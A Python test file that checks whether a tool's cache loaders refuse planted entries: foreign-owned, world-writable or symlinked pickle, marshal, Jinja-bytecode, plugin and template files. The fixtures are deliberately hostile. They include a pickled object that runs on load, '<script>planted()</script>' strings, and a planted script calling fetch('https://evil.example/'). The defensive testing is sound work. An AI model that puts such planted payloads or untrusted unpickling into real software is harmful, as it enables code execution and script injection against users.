"""In the user's own cache folder, an entry that becomes code is still loaded only from a file of the user's own.

A file planted while the folder was open to others stays its planter's after the folder is closed
(``chmod go-w``), and a symbolic link can point anywhere: each loader is given such a planted entry in a
0o700 folder and must neither use it nor run it. The control (``kind == "own"``) shows the entry would run.
"""

from __future__ import annotations

import json
import marshal
import os
import pickle
import shutil
from pathlib import Path
from typing import Any

import pytest
from tests.test_cache_trust import Marker, make_folder, planted_methods, planted_template_code, use

from afterview import _cache, dataclass_code, plugin_discovery, snapshot
from afterview.rules.conditions import OPERATORS

pytestmark = pytest.mark.cold_cache

SPOILED = ["symlink", "writable", pytest.param("foreign", marks=pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="giving a file to another user needs root"))]


def spoil(path: Path, kind: str) -> None:
    """Make the planted entry ``path`` another user's, writable by others, or a link to a file elsewhere."""
    if kind == "foreign":
        os.chown(path, 65534, 65534)  # nobody
    elif kind == "writable":
        os.chmod(path, 0o666)
    elif kind == "symlink":
        elsewhere = path.parent.parent / f"elsewhere-{path.name}"
        shutil.move(path, elsewhere)
        os.chmod(elsewhere, 0o600)  # the user's own, not writable by others: only the link is wrong
        path.symlink_to(elsewhere)


def test_read_code_checks_the_file_not_only_the_folder(tmp_path: Path) -> None:
    folder = make_folder(tmp_path, "own")
    for kind in ("own", "writable", "symlink"):
        path = folder / f"entry-{kind}"
        path.write_bytes(b"code")
        os.chmod(path, 0o600)
        spoil(path, kind)
        assert _cache.read_code(path) == (b"code" if kind == "own" else None)
    assert _cache.read_code(folder / "missing") is None
    assert _cache.read_code(folder) is None  # not a regular file


@pytest.mark.parametrize("kind", ["own", *SPOILED])
def test_a_planted_snapshot_file_in_the_users_folder_is_not_unpickled(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    from afterview import load_ruleset

    folder = use(make_folder(tmp_path, "own"), monkeypatch)
    marker = tmp_path / "snapshot-ran"
    compile_ruleset = lambda: load_ruleset(["default"], operators=OPERATORS)  # noqa: E731
    snapshot._LAYERS.clear()
    snapshot.load(["default"], OPERATORS, OPERATORS, compile_ruleset)  # the user's own snapshot and layer
    [layer] = folder.glob("snapshot-layer-*.pickle")
    layer.write_bytes(pickle.dumps(Marker(marker)))  # only the layer file is planted
    spoil(layer, kind)
    snapshot._LAYERS.clear()
    ruleset = snapshot.load(["default"], OPERATORS, OPERATORS, compile_ruleset, keep=False)
    assert marker.is_dir() is (kind == "own")
    assert ruleset.id == "default" and ruleset.rule("thank-you-note") is not None


@pytest.mark.parametrize("kind", ["own", *SPOILED])
def test_planted_dataclass_code_file_in_the_users_folder_is_not_run(tmp_path: Path, kind: str) -> None:
    folder = make_folder(tmp_path, "own")
    marker = tmp_path / "methods-ran"
    spoil(planted_methods(folder, marker), kind)
    names: dict[str, Any] = {}
    dataclass_code._Compiled(folder)("x = 1", names)
    assert (marker.is_dir(), names["x"]) == ((True, 2) if kind == "own" else (False, 1))


@pytest.mark.parametrize("kind", ["own", *SPOILED])
def test_planted_template_code_file_in_the_users_folder_is_not_rendered(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    from afterview.rules.validate import sample_facts
    from afterview.text.drafts import DraftRenderer

    facts = sample_facts()
    name, fake = planted_template_code(tmp_path, monkeypatch)
    folder = use(make_folder(tmp_path, "own"), monkeypatch)
    (folder / name).write_bytes(fake)
    spoil(folder / name, kind)
    rendered = DraftRenderer().render_text("Real words for {{ company }}.", facts)
    assert rendered == ("PLANTED" if kind == "own" else f"Real words for {facts.company}.")


@pytest.mark.parametrize("kind", ["own", *SPOILED])
def test_planted_plugin_names_file_in_the_users_folder_is_not_imported(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    folder = use(make_folder(tmp_path, "own"), monkeypatch)
    planted = [["evil", "planted_module:plugin", "evil-dist", "6.6.6"]]
    path = folder / f"plugins-{plugin_discovery.distributions_key()}.json"
    path.write_text(json.dumps(planted), encoding="utf-8")
    spoil(path, kind)
    found = plugin_discovery.entry_points()
    assert found == ([tuple(planted[0])] if kind == "own" else plugin_discovery.scan())


@pytest.mark.parametrize("kind", ["own", *SPOILED])
def test_planted_markdown_file_in_the_users_folder_is_not_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    from afterview.guide.markdown_cache import MarkdownCache

    folder = use(make_folder(tmp_path, "own"), monkeypatch)
    digest = MarkdownCache.digest("Some *text*")
    path = folder / "markdown-k.marshal"
    path.write_bytes(marshal.dumps({digest: "<script>planted()</script>"}))
    spoil(path, kind)
    assert MarkdownCache("k").get(digest) == ("<script>planted()</script>" if kind == "own" else None)


@pytest.mark.parametrize("kind", ["own", *SPOILED])
def test_planted_jinja_bytecode_in_the_users_folder_is_not_run(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    import jinja2
    from jinja2.bccache import Bucket

    from afterview.guide.render import _OPTIONS
    from afterview.guide.template_cache import bytecode_cache

    use(make_folder(tmp_path, "own"), monkeypatch)
    cache = bytecode_cache(_OPTIONS, {})
    env = jinja2.Environment(loader=jinja2.DictLoader({"page": "Real page"}), bytecode_cache=cache)
    # What Jinja2 would write for the real text, holding the code of another: the checksum is the real text's.
    bucket = Bucket(env, cache.get_cache_key("page", None), cache.get_source_checksum("Real page"))
    bucket.code = env.compile("PLANTED page", "page")
    path = Path(cache.directory) / (cache.pattern % bucket.key)
    path.write_bytes(bucket.bytecode_to_string())
    os.chmod(path, 0o600)
    spoil(path, kind)
    assert env.get_template("page").render() == ("PLANTED page" if kind == "own" else "Real page")


@pytest.mark.parametrize("kind", ["own", "open", "writable"])
def test_a_planted_planner_script_is_not_published(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """The guide publishes the planner's script (and the sample calendars) as its cache entry holds them."""
    from tests.test_guide_caches import _data

    model = use(make_folder(tmp_path, "own"), monkeypatch)
    real = _data(["default"])[1]
    [entry] = model.glob("planner-*.json")
    planted = {**json.loads(entry.read_text(encoding="utf-8")), "script": "fetch('https://evil.example/');\n"}
    folder = use(make_folder(tmp_path, "open"), monkeypatch) if kind == "open" else model
    (folder / entry.name).write_text(json.dumps(planted), encoding="utf-8")
    os.chmod(folder / entry.name, 0o666 if kind == "writable" else 0o600)
    assert _data(["default"])[1] == (b"fetch('https://evil.example/');\n" if kind == "own" else real)
    assert real.startswith(b"window.afterviewPlanData = {")


@pytest.mark.parametrize("kind", ["own", "open"])
def test_a_planted_calendar_entry_is_not_published(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """``derived.cached`` serves the calendars too: from a folder others can write, they are made again."""
    from afterview.guide import derived

    folder = use(make_folder(tmp_path, kind), monkeypatch)
    (folder / "calendars-k.json").write_text('{"default": "BEGIN:VCALENDAR planted"}', encoding="utf-8")
    found = derived.cached("calendars-k.json", lambda: {"default": "BEGIN:VCALENDAR real"},
                           lambda found: derived.texts(found, ["default"]))
    assert found == {"default": "BEGIN:VCALENDAR planted" if kind == "own" else "BEGIN:VCALENDAR real"}


@pytest.mark.parametrize("kind", ["own", "symlink", "writable", pytest.param("foreign", marks=pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="giving a folder to another user needs root"))])
def test_a_kept_site_is_taken_only_if_it_is_the_users_own(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    from afterview.guide import spare
    from afterview.guide.output_dir import mark

    use(make_folder(tmp_path, "own"), monkeypatch)
    target = tmp_path / "public"
    kept = spare.place(target)
    assert kept is not None
    kept.parent.mkdir(mode=0o700)
    made = tmp_path / "elsewhere-site" if kind == "symlink" else kept
    made.mkdir(mode=0o755)
    mark(made)
    (made / "index.html").write_text("<script>planted()</script>", encoding="utf-8")
    if kind == "symlink":
        kept.symlink_to(made)
    elif kind == "writable":
        os.chmod(kept, 0o777)
    elif kind == "foreign":
        os.chown(kept, 65534, 65534)
    staging = tmp_path / "staging"
    staging.mkdir()
    assert spare.take(target, staging) is (kind == "own")
    assert (staging / "index.html").exists() is (kind == "own")
